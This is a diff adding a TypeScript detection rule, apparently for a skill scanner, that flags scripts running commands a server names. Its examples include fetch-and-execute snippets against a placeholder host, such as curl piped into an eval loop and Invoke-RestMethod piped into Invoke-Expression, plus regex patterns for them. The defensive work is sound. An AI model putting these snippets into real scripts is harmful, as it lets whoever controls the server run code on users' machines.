@@ -1,0 +1,117 @@
+import { isDownloader, isNetworkCall } from "../../known/commands.ts";
+import { isStarter } from "../../known/runs.ts";
+import { sourcesOf } from "../../known/sources.ts";
+import type { ReadPassage } from "../../passage.ts";
+import type { Call, Command, Program } from "../../program.ts";
+import type { Hit, PassageRule } from "../../rule.ts";
+
+/** A list of commands on a server is a remote control. */
+export const remoteCommands: PassageRule = {
+  kind: "passage",
+  id: "remote-commands",
+  class: "remote-content",
+  severity: "high",
+  words: {
+    en: {
+      title: "Runs the commands that a server names",
+      rationale:
+        "A document on a server says which programs are run, and with what. Whoever can change it runs commands on every machine with the skill, and chooses anew each time.",
+      remedy: "Write the commands into the skill, and take no more than values from the server.",
+      beyondPattern:
+        "Many scripts hand something from a server to a program they name themselves. Only where the program itself is a field of the answer is it reported.",
+    },
+    de: {
+      title: "Führt Befehle aus, die ein Server nennt",
+      rationale:
+        "Ein Dokument auf einem Server bestimmt, welche Programme womit gestartet werden. Wer es ändern kann, führt auf jeder Maschine mit dem Skill Befehle aus, jedes Mal andere.",
+      remedy: "Schreiben Sie die Befehle in den Skill und übernehmen Sie vom Server höchstens Werte.",
+      beyondPattern:
+        "Viele Skripte geben etwas von einem Server an ein Programm weiter, das sie selbst nennen. Gemeldet wird nur, wenn das Programm selbst ein Feld der Antwort ist.",
+    },
+  },
+  examples: {
+    matches: [
+      {
+        "run.py":
+          "import requests, subprocess\nfor job in requests.get('https://tools.example/jobs').json():\n    subprocess.run(job['run'].split())\n",
+      },
+      {
+        "run.py":
+          "import requests, subprocess, yaml\nplan = yaml.safe_load(requests.get('https://tools.example/plan').text)\nsubprocess.call([plan['program'], *plan['arguments']])\n",
+      },
+      {
+        "run.mjs":
+          "import { execFile } from 'node:child_process';\nconst plan = await (await fetch('https://tools.example/plan')).json();\nfor (const { command, args } of plan.steps) execFile(command, args);\n",
+      },
+      {
+        "run.sh":
+          "#!/bin/sh\ncurl -s https://tools.example/plan | jq -r '.steps[]' | while read -r step; do\n  eval \"$step\"\ndone\n",
+      },
+    ],
+    ignores: [
+      { "setup.ps1": "Invoke-RestMethod https://tools.example/install.ps1 | Invoke-Expression\n" },
+      {
+        "show.py":
+          "import requests, subprocess\nrow = requests.get('https://tools.example/row').json()\nsubprocess.run(['open', row['url']])\n",
+      },
+      {
+        "show.mjs":
+          "import { spawn } from 'node:child_process';\nconst plan = await (await fetch('https://tools.example/plan')).json();\nspawn('open', [plan.page]);\n",
+      },
+    ],
+  },
+  hint: /requests|httpx|aiohttp|urllib|fetch|axios|https?\.get|\bgot\b|curl|wget|invoke-rest|invoke-web|\birm\b|\biwr\b/i,
+  onlyPrograms: true,
+  check: hitsOf,
+};
+
+function* hitsOf({ program, text, line }: ReadPassage): Generator<Hit> {
+  if (program === null) return;
+  for (const call of program.calls)
+    if (isStarter(call) && namesProgram(call) && call.from.some(isNetworkCall)) yield { line: call.line };
+  for (const command of program.commands) if (runsField(command)) yield { line: command.line };
+  yield* ofLoops(program, text, line);
+}
+
+/** A field of something, or a word that stands for a command, is what is started. */
+const field =
+  /^\[?\s*(?:\*|\.\.\.)?(?:shlex\.split\(\s*)?(?!(?:self|this|cls|args|argv|opts|options|process|sys|os|path|shutil|config|settings)\b)[\w$]+(?:\(\))?(?:\.split|\??\.(?!split\b)\w+|\[["']?\w+["']?\]|\.get\()/;
+const commandWord =
+  /^\[?\s*(?:\*|\.\.\.)?(?:shlex\.split\(\s*)?(?:cmd|command|commands|program|prog|argv|line|step|task|action)\b(?!["'])/i;
+
+function namesProgram({ args: [first] }: Call): boolean {
+  if (first === undefined || first.value !== null || first.isInterpolated) return false;
+  return field.test(first.text) || commandWord.test(first.text);
+}
+
+/** Starts a program whose name is a field of an answer. What is fetched and run as a whole is another rule's. */
+function runsField(command: Command): boolean {
+  const [program] = command.words.filter(({ text }) => !text.startsWith("-"));
+  const isField = /^\$\w+\.\w+/.test(program?.text ?? "");
+  return command.name === "start-process" && isField && sourcesOf(command).some(isDownloader);
+}
+
+/** `curl … | while read -r line; do eval "$line"; done`, and `for line in $(curl …)`. */
+const loop =
+  /(?:curl|wget)\b[^\n]{1,300}\|\s*(?:\\\n\s*)?while\s+(?:IFS=\S*\s+)?read\s+(?:-\w+\s+)*(\w+)|while\s+(?:IFS=\S*\s+)?read\s+(?:-\w+\s+)*(\w+)[^\0]{1,600}?done\s*<\s*<\(\s*(?:curl|wget)\b|for\s+(\w+)\s+in\s+\$\(\s*(?:curl|wget)\b/g;
+
+function* ofLoops({ commands }: Program, text: string, line: number): Generator<Hit> {
+  for (const match of text.matchAll(loop)) {
+    const variable = match[1] ?? match[2] ?? match[3] ?? "";
+    const from = line + text.slice(0, match.index).split("\n").length - 1;
+    const run = commands.find((one) => one.line >= from && one.line < from + REACH && runsVariable(one, variable));
+    if (run) yield { line: run.line };
+  }
+}
+
+/** The body of a loop is hardly longer, in lines. */
+const REACH = 15;
+
+function runsVariable({ name, words, text }: Command, variable: string): boolean {
+  const isIt = new RegExp(String.raw`^["']?\$\{?${variable}\b`);
+  if (name === "") return isIt.test(text);
+  const program = /^(?:eval|source|\.)$/.test(name)
+    ? words[0]
+    : words[words.findIndex((word) => /^-\w*c$/.test(word.text)) + 1];
+  return /^(?:eval|source|\.|(?:ba|z|da)?sh)$/.test(name) && isIt.test(program?.text ?? "");
+}
